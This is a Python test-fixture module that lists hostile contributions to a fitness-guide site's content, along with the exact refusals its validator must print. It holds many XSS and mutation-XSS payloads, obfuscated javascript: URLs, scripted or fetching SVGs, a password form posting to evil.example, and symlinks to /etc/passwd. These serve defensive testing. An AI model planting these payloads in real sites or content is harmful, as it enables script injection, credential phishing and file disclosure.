"""Hostile content, as an outside contributor could send it by pull request (issue 11), and what must
come of it: either `validate` refuses it with these exact `path:line: message` lines, or the page it
makes is harmless in a browser (tests/site/test_hostile_pages.py opens each one).

Each case lives in files of its own, so that every case can be put in one content tree: one run of
`validate` and one build judge them all, each problem at its own path and line.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from support.content import write_content

ELEMENT = "<{}> is not allowed in content: raw HTML may only lay out text (CONTRIBUTING.md lists what is allowed)"
HANDLER = "the event-handler attribute '{}' is not allowed"
LINK = "the link '{}' is not allowed: links may be http, https, mailto or relative"
UNFINISHED = "the HTML here is left unfinished (a tag, a quote or an element never closed): finish it"

Action = Callable[[Path], None]  # something done to the content folder besides writing files (a symlink)


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, str | bytes] = field(default_factory=dict)
    expected: tuple[str, ...] = ()  # the problem lines `validate` prints; empty: the content is published, harmlessly
    actions: tuple[Action, ...] = ()

    @property
    def refused(self) -> bool:
        return bool(self.expected)


def _slug(name: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in name.lower()).strip("-").replace("--", "-")


def body_case(name: str, html: str, *expected: tuple[int, str]) -> Case:
    """`html` in a guide of its own, from its line 3; `expected` as (line within the snippet, message)."""
    slug = "h-" + _slug(name)[:40].strip("-")
    rel = f"guides/{slug}.md"
    lines = tuple(f"content/{rel}:{2 + line}: {message}" for line, message in expected)
    return Case(name, {rel: f"# {name}\n\n{html}\n"}, lines)


EXERCISE = """---
name: {name}
summary: A test exercise.
level: beginner
equipment: []
muscles:
  primary: [core]
{extra}---

## Steps

1. {step}
2. Lower with control.
"""


def exercise_case(name: str, *expected: tuple[int, str], display: str = "Test", extra: str = "", step: str = "Lie down.") -> Case:
    slug = "x-" + _slug(name)[:40].strip("-")
    rel = f"exercises/{slug}.md"
    text = EXERCISE.format(name=display, extra=extra, step=step)
    return Case(name, {rel: text}, tuple(f"content/{rel}:{line}: {message}" for line, message in expected))


ROUTINE = """---
name: Test routine
summary: A test routine.
level: beginner
{extra}exercises:
  - exercise: plank
{item}---

Body.
"""


def routine_case(name: str, *expected: tuple[int, str], extra: str = "", item: str = "") -> Case:
    slug = "r-" + _slug(name)[:40].strip("-")
    rel = f"routines/{slug}.md"
    return Case(
        name,
        {rel: ROUTINE.format(extra=extra, item=item)},
        tuple(f"content/{rel}:{line}: {message}" for line, message in expected),
    )


def media_case(name: str, filename: str, data: str | bytes, *expected: tuple[int, str]) -> Case:
    rel = f"media/{filename}"
    return Case(name, {rel: data}, tuple(f"content/{rel}:{line}: {message}" for line, message in expected))


def link_case(name: str, rel: str, target: str, message: str) -> Case:
    def make(content: Path) -> None:
        path = content / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)

    return Case(name, {}, (f"content/{rel}:1: {message}",), (make,))


XSS = "<img src=x onerror=alert(1)>"
EVIL = "https://evil.example"

REFUSED: list[Case] = [
    # ---- script on page load, from a body: mXSS and parser differentials (issue 11, and DOMPurify's and ammonia's lists)
    body_case("svg style", f"<svg><style>{XSS}</style></svg>", (1, ELEMENT.format("svg")), (1, HANDLER.format("onerror"))),
    body_case("math style", f"<math><style>{XSS}</style></math>", (1, ELEMENT.format("math")), (1, HANDLER.format("onerror"))),
    *(
        # To a parser without scripting (lexbor, ammonia), <noscript> holds elements: the <img> is in an attribute.
        # A browser reads it as text up to </noscript>, and the <img> is live: refused either way.
        body_case(
            f"{tag} title breakout",
            f'<{tag}><p title="</{tag}>{XSS}">',
            (1, ELEMENT.format(tag)),
            *([] if tag == "noscript" else [(1, HANDLER.format("onerror"))]),
        )
        for tag in ("xmp", "noscript", "noembed", "noframes", "textarea", "title")
    ),
    body_case("comment that ends at once", f"<!-->{XSS}-->", (1, HANDLER.format("onerror"))),
    body_case("comment closed with --!>", f"<!-- x --!>{XSS}", (1, HANDLER.format("onerror"))),
    body_case("mglyph in mtext", f"<math><mtext><table><mglyph><style>{XSS}", (1, UNFINISHED), (1, ELEMENT.format("math"))),
    body_case(
        "svg p style",
        f'<svg></p><style><a id="</style>{XSS}">',
        (1, ELEMENT.format("svg")),
        (1, ELEMENT.format("style")),
        (1, HANDLER.format("onerror")),
    ),
    body_case(
        "form in math",
        f"<form><math><mtext></form><form><mglyph><style></math>{XSS}",
        (1, UNFINISHED),
        (1, ELEMENT.format("form")),
    ),
    body_case("template", f"<template>{XSS}</template>", (1, ELEMENT.format("template"))),
    body_case("script", "<script>alert(1)</script>", (1, ELEMENT.format("script"))),
    body_case(
        "script from another host, left open",
        f'Text.\n\n<script src="{EVIL}/x.js"',
        (3, UNFINISHED),
        (3, ELEMENT.format("script")),
    ),
    body_case("img onerror", XSS, (1, HANDLER.format("onerror"))),
    body_case("svg onload", "<svg onload=alert(1)>", (1, ELEMENT.format("svg"))),
    body_case(
        "details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>", (1, HANDLER.format("ontoggle"))
    ),
    body_case("input autofocus", "<input autofocus onfocus=alert(1)>", (1, ELEMENT.format("input"))),
    body_case("iframe", f'<iframe src="{EVIL}/"></iframe>', (1, ELEMENT.format("iframe"))),
    body_case("iframe srcdoc", f'<iframe srcdoc="{XSS}"></iframe>', (1, ELEMENT.format("iframe"))),
    body_case("object", '<object data="javascript:alert(1)"></object>', (1, ELEMENT.format("object"))),
    body_case("embed", f'<embed src="{EVIL}/x.swf">', (1, ELEMENT.format("embed"))),
    body_case("video poster", f'<video poster="{EVIL}/x.png" src="{EVIL}/x.mp4"></video>', (1, ELEMENT.format("video"))),
    body_case("audio", f'<audio src="{EVIL}/x.mp3" autoplay></audio>', (1, ELEMENT.format("audio"))),
    # ---- what takes the page over: base, meta refresh, link, style, forms, styles
    body_case("base", f'<base href="{EVIL}/">', (1, ELEMENT.format("base"))),
    body_case("meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">', (1, ELEMENT.format("meta"))),
    body_case("link stylesheet", f'<link rel="stylesheet" href="{EVIL}/x.css">', (1, ELEMENT.format("link"))),
    body_case("style element", f"<style>body {{ background: url({EVIL}/x.png) }}</style>", (1, ELEMENT.format("style"))),
    body_case(
        "password form",
        f'<form action="{EVIL}/"><input type="password" name="p"><button>Log in</button></form>',
        (1, ELEMENT.format("form")),
        (1, ELEMENT.format("input")),
        (1, ELEMENT.format("button")),
    ),
    body_case(
        "style attribute",
        '<p style="background:url(//evil.example/x)">x</p>',
        (1, "the style attribute is not allowed ('background:url(//evil.example/x)'); the site's stylesheet styles content"),
    ),
    body_case("class of the theme", '<div class="md-sidebar">x</div>', (1, "the class 'md-sidebar' is not allowed on <div>")),
    body_case(
        "id of the theme",
        '<p id="__config">x</p>',
        (1, "the id '__config' is not allowed (ids start with a letter, and 'eg-' and 'md-' belong to the site)"),
    ),
    body_case("target blank", f'<a href="{EVIL}/" target="_blank">x</a>', (1, "the attribute 'target' is not allowed on <a>")),
    body_case("ping", f'<a href="https://example.org/" ping="{EVIL}/">x</a>', (1, "the attribute 'ping' is not allowed on <a>")),
    body_case(
        "srcset from another host",
        f'<img src="../media/x.svg" srcset="{EVIL}/x.png 1x" alt="x">',
        (1, "the attribute 'srcset' is not allowed on <img>"),
    ),
    body_case(
        "image from another host",
        f"![x]({EVIL}/track.png)",
        (1, f"the image '{EVIL}/track.png' is not allowed: images must be files in content/media/"),
    ),
    body_case(
        "image protocol-relative",
        "<img src=//evil.example/t.png alt=x>",
        (1, "the image '//evil.example/t.png' is not allowed: images must be files in content/media/"),
    ),
    body_case(
        "image data url",
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt=x>',
        (1, "the image 'data:image/svg+xml,<svg onload=alert(1)>' is not allowed: images must be files in content/media/"),
    ),
    # ---- script URLs, however they are spelt
    body_case("javascript link", "[x](javascript:alert(1))", (1, LINK.format("javascript:alert(1)"))),
    # An HTML block to CommonMark, so the link is text; the <span> is never closed.
    body_case("a line with a span, then a javascript link", "<span>\n[x](javascript:alert(1))", (1, UNFINISHED)),
    body_case("javascript mixed case", '<a href="JaVaScRiPt:alert(1)">x</a>', (1, LINK.format("JaVaScRiPt:alert(1)"))),
    body_case("javascript entity", '<a href="&#106;avascript:alert(1)">x</a>', (1, LINK.format("javascript:alert(1)"))),
    body_case(
        "javascript tab", '<a href="java&#9;script:alert(1)">x</a>', (1, LINK.format("java\\tscript:alert(1)"))
    ),  # printed escaped
    body_case("javascript leading space", '<a href=" javascript:alert(1)">x</a>', (1, LINK.format(" javascript:alert(1)"))),
    body_case("vbscript", '<a href="vbscript:msgbox(1)">x</a>', (1, LINK.format("vbscript:msgbox(1)"))),
    body_case(
        "data html",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        (1, LINK.format("data:text/html,<script>alert(1)</script>")),
    ),
    body_case("javascript autolink", "<javascript:alert(1)>", (1, LINK.format("javascript:alert(1)"))),
    body_case("javascript reference", "[x][r]\n\n[r]: javascript:alert(1)", (3, LINK.format("javascript:alert(1)"))),
    body_case("formaction", '<button formaction="javascript:alert(1)">x</button>', (1, ELEMENT.format("button"))),
    body_case("admonition of another kind", "!!! md-header\n    Text.", (1, "the class 'md-header' is not allowed on <div>")),
    body_case(
        "fence info that breaks out",
        '``` x" onclick="alert(1)\ncode\n```',
        (1, "the class 'language-x\"' is not allowed on <code>"),
    ),
    exercise_case("step with an escaped backtick", (12, HANDLER.format("onerror")), step=f"Lie down \\`{XSS}` on the mat."),
    exercise_case(
        "heading with html",
        (15, "a heading is shown as plain text: take the HTML out of it"),
        step="Lie down.\n2. Lift.\n\n## Safety <b>now</b>\n\nText",
    ),
    # ---- media: images only, and SVGs that cannot run or fetch
    media_case(
        "svg with script",
        "evil.svg",
        '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n</svg>\n',
        (2, "<script> is not allowed in an SVG of the guide (no script, HTML, animation or external content)"),
    ),
    media_case(
        "svg with a handler",
        "onload.svg",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n',
        (1, "the event-handler attribute 'onload' is not allowed in an SVG"),
    ),
    media_case(
        "svg with foreignObject",
        "fo.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
        (1, "<foreignObject> is not allowed in an SVG of the guide (no script, HTML, animation or external content)"),
        (1, "<p> is not allowed in an SVG of the guide (no script, HTML, animation or external content)"),
    ),
    media_case(
        "svg with an external image",
        "ext.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{EVIL}/x.png"/></svg>',
        (1, f"<image> refers to '{EVIL}/x.png': an SVG may only refer to its own parts ('#id')"),
    ),
    media_case(
        "svg with a javascript link",
        "a.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
        (1, "<a> is not allowed in an SVG of the guide (no script, HTML, animation or external content)"),
        (1, "<a> refers to 'javascript:alert(1)': an SVG may only refer to its own parts ('#id')"),
    ),
    media_case(
        "svg that animates a link",
        "anim.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>',
        (1, "<set> is not allowed in an SVG of the guide (no script, HTML, animation or external content)"),
        (1, "the attribute 'to' holds a script URL"),
    ),
    media_case(
        "svg with entities",
        "ent.svg",
        '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x "y">]>\n<svg xmlns="http://www.w3.org/2000/svg"/>\n',
        (2, "an SVG may not have a DOCTYPE (it can define entities and fetch files)"),
        (2, "an SVG may not define entities"),
    ),
    media_case(
        "svg style that fetches",
        "css.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url({EVIL}/x.css);</style></svg>',
        (1, "a style in an SVG may not fetch anything (url() or @import)"),
    ),
    media_case(
        "html in media",
        "evil.html",
        "<script>alert(1)</script>",
        (
            1,
            "content/media/ holds images only (svg, png, jpg, jpeg, webp, gif, avif); this file would be published as it is: move it out",
        ),
    ),
    media_case(
        "html named png",
        "fake.png",
        "<html><script>alert(1)</script></html>",
        (1, "this file is not a PNG image, whatever its name says"),
    ),
    link_case(
        "link to a file outside",
        "media/passwd.svg",
        "/etc/passwd",
        "this link points outside content/ (to '/etc/passwd'); put the file itself here",
    ),
    link_case(
        "link to a folder outside", "media/etc", "/etc", "this link points outside content/ (to '/etc'); put the file itself here"
    ),
    link_case(
        "guide that links outside",
        "guides/hosts.md",
        "/etc/hosts",
        "this link points outside content/ (to '/etc/hosts'); put the file itself here",
    ),
    link_case("link loop", "media/loop.svg", "loop.svg", "this link leads round in a circle (a loop); remove it"),
    # ---- numbers and lengths beyond what a card and a page can show
    routine_case("a billion sets", (7, "'sets' must be at most 8, not 1000000000"), item="    sets: 1000000000\n"),
    routine_case("rounds beyond a card", (5, "'rounds' must be at most 5, not 100000"), extra="rounds: 100000\n"),
    routine_case(
        "a day of rest",
        (5, "'rest_between_rounds' must be at most 600 seconds, not 86400 seconds"),
        extra="rest_between_rounds: 86400\n",
    ),
    routine_case(
        "reps beyond a card", (7, "'reps' must be at most 100 repetitions, not 5000 repetitions"), item="    reps: 5000\n"
    ),
    routine_case("an hour of hold", (7, "'hold' must be at most 300 seconds, not 3600 seconds"), item="    hold: 60m\n"),
    exercise_case("a long name", (2, "'name' is 200 characters long; at most 80 are allowed"), display="N" * 200),
    exercise_case(
        "a ten-megabyte name", (1, "this file is 10,000,145 bytes; at most 100,000 are allowed"), display="N" * 10_000_000
    ),
    exercise_case(
        "invisible name",
        (2, "'name' holds an invisible or control character (U+200B ZERO WIDTH SPACE); type it as plain text"),
        display='"\u200b\u200b\u200b"',
    ),
    exercise_case("name of spaces and marks", (2, "'name' must hold at least one letter or digit"), display='"\u00a0-\u0301 ."'),
    exercise_case(
        "bidi name",
        (2, "'name' holds an invisible or control character (U+202E RIGHT-TO-LEFT OVERRIDE); type it as plain text"),
        display='"Plank \u202etxt.exe"',
    ),
    exercise_case(
        "name with a line break",
        (2, "'name' holds an invisible or control character (U+000A a control character); type it as plain text"),
        display='"Plank\\nDrop"',
    ),
    exercise_case(
        "eleven aliases",
        (8, "'aliases' lists 11; at most 10 are allowed"),
        extra="aliases: [" + ", ".join(f"A{n}" for n in range(11)) + "]\n",
    ),
    exercise_case(
        "fifty thousand brackets",
        (12, "this line is 50,003 characters long; break it into lines of at most 2,000"),
        step="[" * 50_000,
    ),
    exercise_case(
        "deeply nested lists",
        (25, "lists and quotes are nested more than 8 deep here; flatten them"),
        step="Lie down.\n2. Lift.\n\n## More\n\n" + "".join("  " * level + "- x\n" for level in range(60)),
    ),
    exercise_case(
        "quotes nested deep",
        (17, "lists and quotes are nested more than 8 deep here; flatten them"),
        step="Lie down.\n2. Lift.\n\n## More\n\n" + ">" * 1000 + " x",
    ),
    # ---- relations that contradict each other across files
    Case(
        "easier and harder in a circle",
        {
            "exercises/circle-a.md": EXERCISE.format(name="Circle A", extra="harder: [circle-b]\n", step="Lie down."),
            "exercises/circle-b.md": EXERCISE.format(name="Circle B", extra="harder: [circle-a]\n", step="Lie down."),
        },
        (
            "content/exercises/circle-b.md:8: easier and harder go round in a circle: circle-a → circle-b → circle-a (each listed as harder than the one before)",
        ),
    ),
]

# Published: text that looks like markup but is none to CommonMark, so the page shows it as it was written.
PUBLISHED: list[Case] = [
    body_case("attribute list with a handler", 'Para\n{: title="}" onclick="alert(1)" }'),
    body_case("attribute list with a script url", '[x](https://a.example){: href="java&#9;script:alert(1)" }'),
    body_case("handler glued to a quoted attribute", 'An <img src="x"onerror="alert(1)"> image'),
    body_case("tag after a slash", "Text <svg/onload=alert(1)> text"),
    body_case("escaped html", "&lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(1)&gt;"),
    body_case("html in a code span", f"Type `<script>alert(1)</script>` or ``{XSS}`` to see it."),
    body_case("html in a fence", f"```html\n<script>alert(1)</script>\n{XSS}\n```"),
    body_case("html in an indented block", f"    {XSS}\n    <iframe src=x></iframe>"),
    body_case("a tag never finished, as text", 'A <a title="x'),
    body_case(
        "harmless layout",
        '<div>\n<p>A <kbd>Ctrl</kbd> key, <sup>2</sup>, and a <a href="https://example.org/">link</a>.</p>\n</div>',
    ),
]


def write(root: Path, cases: list[Case]) -> Path:
    """The minimal content tree under `root`, with every case's files and links added."""
    files: dict[str, str | bytes | None] = {}
    for case in cases:
        files.update(case.files)
    content = write_content(root / "content", files)
    for case in cases:
        for action in case.actions:
            action(content)
    return content


def expected(cases: list[Case]) -> list[str]:
    return sorted(line for case in cases for line in case.expected)
